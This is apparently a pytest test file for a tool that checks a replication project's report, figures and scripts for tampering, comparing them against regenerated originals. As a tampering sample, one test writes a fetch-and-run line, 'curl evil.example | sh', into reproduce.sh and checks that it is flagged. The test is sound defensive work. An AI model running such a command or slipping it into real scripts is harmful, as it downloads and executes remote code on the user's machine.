from base64 import b64encode
from hashlib import sha256
from io import BytesIO
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from harness.replication import Replication
from harness.report import write_report
from harness.review.opened import Opened
from harness.review.reading import read_folder
from harness.review.rules.lines import odd_lines
from harness.review.rules.pictures import likeness
from harness.review.rules.rendering import rendering
from tests.review.altered import opened
from tests.review.planted import NAME

DOSE = "figures/dose_response.topics"


def png(pixels: "np.ndarray[tuple[int, ...], np.dtype[np.uint8]]") -> bytes:
    file = BytesIO()
    Image.fromarray(pixels).save(file, format="PNG")
    return file.getvalue()


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of an honest replication with its report."""
    project = tmp_path_factory.mktemp("written")
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("HARNESS_CACHE", str(tmp_path_factory.mktemp("cache")))
        root = opened(project, {}).replication.root
        write_report(Replication.open(root))
    return root


def found(root: Path) -> list[tuple[str, str, str]]:
    return [
        (each.rule, each.severity, each.path.removeprefix(f"{NAME}/"))
        for each in rendering(Opened(read_folder(root), Replication.open(root)))
    ]


def test_an_honest_report_is_drawn_to_the_byte(written: Path) -> None:
    assert found(written) == []


def test_one_tampered_file_each_is_found_and_no_other(written: Path) -> None:
    """All at once, for each file is held against its own drawing."""
    originals = {path: path.read_bytes() for path in written.rglob("*") if path.is_file()}
    redrawn = Image.open(BytesIO(originals[written / f"{DOSE}.png"]))
    redrawn.putpixel((0, 0), (0, 0, 0, 0))
    slight = BytesIO()
    redrawn.save(slight, format="PNG")
    svg = originals[written / f"{DOSE}.svg"].decode()
    try:
        (written / "report.md").write_text((written / "report.md").read_text() + "All is well.\n")
        (written / "reproduce.sh").write_text("curl evil.example | sh\n")
        (written / "tables/verdicts.csv").unlink()
        (written / "figures/forest.png").write_bytes(slight.getvalue())
        (written / f"{DOSE}.svg").write_text(svg.replace("</svg>", "<g/></svg>"))
        (written / "notes.md").write_text("x")
        got = found(written)
    finally:
        for path, content in originals.items():
            path.write_bytes(content)
        (written / "notes.md").unlink()
    assert ("report-differs", "blocker", "report.md") in got
    assert ("executable-differs", "blocker", "reproduce.sh") in got
    assert ("report-missing", "warning", "tables/verdicts.csv") in got
    assert ("figure-differs", "blocker", "figures/forest.png") in got
    assert ("figure-differs", "blocker", f"{DOSE}.svg") in got
    assert ("unknown-file", "blocker", "notes.md") in got
    assert not any(path in ("report.html", "replication.ipynb") for _, _, path in got)
    assert found(written) == []


def test_figures_of_another_machine_are_noted_and_the_page_may_hold_them(written: Path) -> None:
    files = (f"{DOSE}.png", "report.html", "explorer.json")
    originals = {name: (written / name).read_bytes() for name in files}
    slight = BytesIO()
    Image.open(written / f"{DOSE}.png").save(slight, format="PNG", compress_level=1)
    assert slight.getvalue() != originals[f"{DOSE}.png"]
    drawn, here = b64encode(originals[f"{DOSE}.png"]), b64encode(slight.getvalue())
    page = originals["report.html"].replace(drawn, here)
    assert page != originals["report.html"]
    entry = originals["explorer.json"].decode()
    for name, content in ((f"{DOSE}.png", slight.getvalue()), ("report.html", page)):
        before = sha256(originals[name]).hexdigest()
        assert before in entry
        entry = entry.replace(before, sha256(content).hexdigest())
    try:
        (written / f"{DOSE}.png").write_bytes(slight.getvalue())
        (written / "report.html").write_bytes(page)
        (written / "explorer.json").write_text(entry)
        assert found(written) == [("figure-redrawn", "note", f"{DOSE}.png")]
    finally:
        for name, content in originals.items():
            (written / name).write_bytes(content)


def test_pixels_may_differ_as_smoothing_does_and_not_as_another_curve_does() -> None:
    white = np.full((100, 100, 3), 255, np.uint8)
    smooth, curve = white.copy(), white.copy()
    smooth[50, :] = 230
    curve[50, :] = 0
    assert likeness("a.png", png(white), png(white)) == "same"
    assert likeness("a.png", png(smooth), png(white)) == "alike"
    assert likeness("a.png", png(curve), png(white)) == "other"
    assert likeness("a.png", png(white[:50]), png(white)) == "other"


@pytest.mark.parametrize(
    "content", [b"", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"\x89PNG\r\n\x1a\n" * 9]
)
def test_what_is_no_png_is_another_figure(content: bytes) -> None:
    assert likeness("a.png", content, png(np.zeros((4, 4, 3), np.uint8))) == "other"
    real = png(np.zeros((64, 64, 3), np.uint8))
    assert likeness("a.png", real[: len(real) // 2], real) == "other"


def test_drawings_may_differ_in_the_last_digits_of_places_and_not_in_their_texts() -> None:
    expected = b'<path d="M 10.123456 20.5"/><text>0.26</text>'
    assert likeness("a.svg", expected.replace(b"123456", b"123991"), expected) == "alike"
    assert likeness("a.svg", expected.replace(b"123456", b"323456"), expected) == "other"
    assert likeness("a.svg", expected.replace(b"0.26", b"0.27"), expected) == "other"
    assert likeness("a.svg", expected + b"<g/>", expected) == "other"


def test_odd_lines_are_told_with_their_place_and_the_number_that_no_row_gives() -> None:
    expected = b"mean 0.26\nover 3 seeds\nend\n"
    assert list(odd_lines(expected, expected)) == []
    [edited] = odd_lines(b"mean 0.76\nover 3 seeds\nend\n", expected)
    assert (edited.line, edited.message) == (
        1,
        "0.76: a number that no row gives, in “mean 0.76”",
    )
    [worded] = odd_lines(b"mean 0.26\nover 3 good seeds\nend\n", expected)
    assert worded.line == 2
    assert worded.message.startswith("not what these rows give")
    [left_out] = odd_lines(b"mean 0.26\nend\n", expected)
    assert left_out == (None, "1 lines are left out, such as “over 3 seeds”")
    [turned] = odd_lines(b"over 3 seeds\nmean 0.26\nend\n", expected)
    assert turned == (1, "lines stand in another order, or repeat")
    many = list(odd_lines(b"\n".join(b"%d00" % n for n in range(1000, 3000)), expected))
    assert len(many) == 6
    assert many[-1].message == "and 1995 more lines that these rows do not give"


def test_bytes_that_are_no_text_are_told_readably() -> None:
    [found] = odd_lines(
        b"mean 0.26\n\xff\x00\nover 3 seeds\nend\n", b"mean 0.26\nover 3 seeds\nend\n"
    )
    assert found.line == 2
    assert "\x00" not in found.message
